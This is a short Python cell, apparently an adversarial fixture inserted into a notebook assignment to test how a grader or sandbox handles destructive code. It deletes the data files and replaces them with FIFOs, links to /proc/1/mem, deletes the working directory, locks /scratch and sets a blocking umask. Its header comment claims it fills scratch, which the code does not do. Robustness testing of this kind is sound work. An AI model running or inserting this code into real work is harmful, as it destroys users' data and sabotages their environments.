# fills its scratch, removes the work folder, replaces digits.py and mnist.npz, makes the folder unreadable
# %% insert before q2_1
import os, shutil
for f in ('digits.py', 'mnist.npz'):
    try: os.remove(f)
    except OSError as e: print(f, e)
    try: os.mkfifo(f)
    except OSError as e: print(f, e)
    try: os.symlink('/proc/1/mem', f + '2')
    except OSError as e: print(f, e)
try: shutil.rmtree('.')
except OSError as e: print(e)
try: os.rmdir(os.getcwd())
except OSError as e: print(e)
os.chmod('/scratch', 0) if os.path.exists('/scratch') else 0
os.umask(0o777)
